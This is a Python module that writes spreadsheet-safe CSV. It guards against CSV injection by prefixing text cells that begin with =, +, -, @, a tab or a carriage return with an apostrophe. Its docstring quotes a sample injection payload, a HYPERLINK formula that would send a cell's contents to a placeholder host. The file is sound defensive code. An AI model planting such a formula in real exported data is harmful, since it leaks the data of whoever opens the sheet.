"""CSV that is safe to open in a spreadsheet: the one writer of every CSV netquiz produces.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return can be run as a
formula by Excel, LibreOffice or Google Sheets (CSV injection): a participant named
``=HYPERLINK("http://x/?"&A1,"Click")`` would put a live link into the facilitator's sheet. Such text
cells get a leading ``'`` (shown as text, not evaluated). Numbers (int/float values, e.g. a negative
discrimination) are written as numbers: a spreadsheet reads ``-12`` as a number, never as a formula.

Usage::

    from netquiz.export.csv_safe import frame_csv, safe_cell

    safe_cell("=1+1")           # "'=1+1"
    frame_csv(frame, bom=True)  # CSV text of a pandas DataFrame, every text cell made safe

pandas is only imported by the caller (the frame's owner); this module needs none.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"


def safe_cell(value: Any) -> Any:
    """``value`` with a ``'`` in front if it is text a spreadsheet would read as a formula; other
    values (numbers, None, NaN) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are made safe by :func:`safe_cell`."""
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or str(safe[column].dtype) in ("string", "str"):
            safe[column] = safe[column].map(safe_cell)
    safe.columns = [safe_cell(str(c)) for c in safe.columns]
    return safe


def frame_csv(frame: pd.DataFrame, bom: bool = False) -> str:
    """CSV text of ``frame`` (no index, ``\\n`` line ends), every text cell safe; ``bom`` puts a BOM first
    so that Excel reads the UTF-8 (Devanagari) right."""
    text = safe_frame(frame).to_csv(index=False, lineterminator="\n")
    return (BOM if bom else "") + text
